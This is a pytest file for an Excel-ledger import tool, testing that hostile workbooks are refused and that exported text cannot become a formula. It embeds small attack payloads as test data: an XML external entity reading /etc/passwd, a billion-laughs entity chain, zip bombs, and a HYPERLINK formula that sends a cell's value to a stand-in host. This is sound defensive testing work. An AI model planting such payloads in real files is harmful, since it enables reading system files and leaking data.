"""A returned ledger is untrusted input: bombs, far cells, non-finite numbers, formulas and
references that do not match their row are refused with the cell named, and nothing is written.
And the ledger qtrack writes is inert: no text it carries becomes a formula."""

from __future__ import annotations

import sys
import zipfile
from pathlib import Path

import pytest
from conftest import PLANS, rows, state
from openpyxl import load_workbook

sys.path.insert(0, str(Path(__file__).parent / "data"))
import hostile_ledger  # noqa: E402  (tests/data/hostile_ledger.py)

AS_OF = "2016-12-15"


@pytest.fixture
def exported(loaded, tmp_path) -> Path:
    path = tmp_path / "ledger.xlsx"
    assert loaded("export", "-o", str(path), "--plan", "2016", "--as-of", AS_OF).exit_code == 0
    return path


def refused(cli, db, path: Path) -> list[str]:
    """import-progress of `path`: must fail with one line per problem and leave the database as it was."""
    before = state(db)
    result = cli("import-progress", str(path), "--as-of", AS_OF)
    assert result.exit_code == 1 and result.stdout == ""
    assert "Traceback" not in result.stderr and "unexpected" not in result.stderr
    assert state(db) == before
    return result.stderr.splitlines()


def test_a_zip_bomb_is_refused_before_it_is_unpacked(loaded, db, exported, tmp_path):
    bomb = hostile_ledger.zip_bomb(exported, tmp_path / "bomb.xlsx")
    assert bomb.stat().st_size < 2**20  # 64 MB of sheet in well under a megabyte
    [line] = refused(loaded, db, bomb)
    assert line.startswith(f"error: {bomb}: unpacks to ") and "zip bomb" in line


def test_a_cell_at_the_last_row_is_read_in_passing_and_named(loaded, db, exported, tmp_path):
    book = load_workbook(exported)
    book["2016"][f"L{hostile_ledger.LAST_ROW}"] = "远处的一格"
    far = tmp_path / "far.xlsx"
    book.save(far)
    assert refused(loaded, db, far)[0] == (f"error: 2016!L{hostile_ledger.LAST_ROW}: a filled row without a task "
                                           "reference; add tasks to the plan file, not to the ledger")


@pytest.mark.parametrize("xml, shown", [
    ('<c r="K3" t="inlineStr"><is><t>nan</t></is></c>', "'nan'"),
    ('<c r="K3" t="inlineStr"><is><t>inf</t></is></c>', "'inf'"),
    ('<c r="K3" t="inlineStr"><is><t>-Infinity</t></is></c>', "'-Infinity'"),
    ('<c r="K3"><v>1e400</v></c>', "inf"),  # a number too large for a float: read as infinity
    ('<c r="K3" t="inlineStr"><is><t>1e400</t></is></c>', "'1e400'"),
])
def test_a_progress_that_is_not_a_finite_number_is_refused_with_its_cell(loaded, db, exported, tmp_path, xml, shown):
    bad = hostile_ledger.raw_cell(exported, tmp_path / "bad.xlsx", 1, "K3", xml)
    assert refused(loaded, db, bad)[0] == f"error: 2016!K3: progress {shown} is not a finite number"


@pytest.mark.parametrize("xml", [
    '<c r="L3"><f>1+1</f><v>2</v></c>',
    '<c r="L3" t="str"><f>[1]Sheet1!A1</f><v>外部数据</v></c>',  # an external link, with its cached value
    '<c r="L3" t="str"><f>HYPERLINK("http://example.invalid/?"&amp;A1)</f><v>x</v></c>',
    '<c r="K3"><f>50+10</f><v>60</v></c>',
])
def test_a_formula_in_a_fill_in_cell_is_refused_never_evaluated(loaded, db, exported, tmp_path, xml):
    bad = hostile_ledger.raw_cell(exported, tmp_path / "formula.xlsx", 1, xml[6:8], xml)
    assert refused(loaded, db, bad)[0] == (f"error: 2016!{xml[6:8]}: a formula; qtrack reads no formulas: "
                                           "type the value itself")


def test_a_reference_to_another_plans_task_is_refused(cli, db, tmp_path):
    assert cli("import", str(PLANS)).exit_code == 0
    path = tmp_path / "ledger.xlsx"
    assert cli("export", "-o", str(path), "--as-of", AS_OF).exit_code == 0
    book = load_workbook(path)
    ws = book["2016"]
    ws["T3"], ws["B3"], ws["J3"] = "2014/1", "编制质量发展纲要年度行动计划", "进行中"  # 2014/1's own title, too
    book.save(path)
    assert refused(cli, db, path)[0] == ("error: 2016!T3: task 2014/1 belongs to plan 2014, not to this sheet's "
                                         "plan 2016; rows cannot move between sheets")


def test_a_reference_whose_title_differs_from_its_row_is_refused(loaded, db, exported):
    book = load_workbook(exported)
    ws = book["2016"]
    ws["T3"], ws["J3"] = "2016/2", "已完成"  # the row of 2016/1 now points at 2016/2
    book.save(exported)
    assert refused(loaded, db, exported)[0] == (
        "error: 2016!B3: this row's title is not that of 2016/2 (开展出口商品质量提升专项行动); "
        "the reference column does not match the row: export a fresh ledger")


def test_text_that_looks_like_a_formula_is_written_as_text(cli, plan2016, db, tmp_path):
    text = plan2016.read_text(encoding="utf-8")
    text = text.replace("title: 开展消费品质量提升专项行动", "title: \"=HYPERLINK(\\\"http://x.invalid/?\\\"&A1)\"")
    text = text.replace("lead: [监督司]", "lead: [\"+监督司\"]", 1)
    text = text.replace("title: 质量品牌提升行动计划(2016)", "title: \"=1+2 行动计划\"", 1)
    plan2016.write_text(text, encoding="utf-8")
    assert cli("import", str(plan2016)).exit_code == 0, cli("import", str(plan2016)).stderr
    for note in ("=1+1", "@SUM(A1)", "-2+3"):
        assert cli("update", "2016/2", "--note", note, "--as-of", AS_OF).exit_code == 0
    path = tmp_path / "ledger.xlsx"
    assert cli("export", "-o", str(path), "--as-of", AS_OF).exit_code == 0
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
    assert not any("<f>" in s or "<f " in s for s in sheets)
    ws = load_workbook(path)["2016"]
    assert (ws["B3"].value, ws["B3"].data_type) == ('=HYPERLINK("http://x.invalid/?"&A1)', "s")
    assert (ws["C3"].value, ws["C3"].data_type) == ("+监督司", "s")
    assert (ws["H4"].value, ws["H4"].data_type) == ("-2+3", "s")
    assert (ws["A1"].value, ws["A1"].data_type) == ("=1+2 行动计划 督查台帐 (截至 2016-12-15)", "s")
    summary = load_workbook(path)["部门汇总"]
    assert "+监督司" in [c.value for c in summary["A"]]


def test_a_fifo_is_refused_not_read(loaded, db, tmp_path):
    fifo = tmp_path / "ledger.xlsx"
    import os

    os.mkfifo(fifo)
    assert refused(loaded, db, fifo) == [f"error: {fifo}: not a regular file"]
    assert rows(db, "SELECT COUNT(*) FROM task_update") == [(0,)]


def test_a_sheet_that_states_a_smaller_size_than_it_has_is_read_whole(loaded, db, exported, tmp_path):
    with zipfile.ZipFile(exported) as archive:
        assert '<dimension ref="A1:T12"' in archive.read("xl/worksheets/sheet1.xml").decode()  # 10 tasks
    bad = hostile_ledger.raw_cell(exported, tmp_path / "small.xlsx", 1, "J12",
                                  '<c r="J12" t="inlineStr"><is><t>未知状态</t></is></c>')
    lying = hostile_ledger.rewrite(bad, tmp_path / "lying.xlsx",
                                   lambda name, data: data.replace(b'<dimension ref="A1:T12"', b'<dimension ref="A1:O3"'))
    assert refused(loaded, db, lying)[0].startswith("error: 2016!J12: unknown status '未知状态'")


@pytest.mark.parametrize("part, entities", [
    ("xl/worksheets/sheet1.xml", '<!DOCTYPE worksheet [<!ENTITY a "哈哈哈哈哈哈哈哈"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
                                 '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'),  # a billion laughs, in small
    ("xl/workbook.xml", '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),  # an external entity
])
def test_a_part_that_declares_entities_is_refused_unexpanded(loaded, db, exported, tmp_path, part, entities):
    def edit(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        text = data.decode("utf-8")
        at = text.index("<", text.index("?>") + 2 if text.startswith("<?xml") else 0)
        text = text[:at] + entities + text[at:]
        return text.replace("</sheetData>", '<row r="9999"><c r="L9999" t="inlineStr"><is><t>&c;</t></is></c></row>'
                                            "</sheetData>") if "ENTITY c" in entities else text
    bad = hostile_ledger.rewrite(exported, tmp_path / "entities.xlsx", edit)
    [line] = refused(loaded, db, bad)
    assert line.startswith(f"error: {bad}: ") and f"{part}: declares a DTD; refused" in line


@pytest.mark.parametrize("size, taken", [(2**24, True), (2**24 + 1, False)])
def test_a_part_packed_tight_is_a_bomb_only_past_16_mb(loaded, db, exported, tmp_path, size, taken):
    """A part of 16 MB of zeros (a thousand to one) is still a ledger's; one byte more, packed so
    tight, is refused as a bomb before it is unpacked."""
    padded = tmp_path / "padded.xlsx"
    padded.write_bytes(exported.read_bytes())
    with zipfile.ZipFile(padded, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/pad.bin", b"\0" * size)
    if taken:
        result = loaded("import-progress", str(padded), "--as-of", AS_OF)
        assert result.exit_code == 0, result.stderr
    else:
        [line] = refused(loaded, db, padded)
        assert "zip bomb" in line
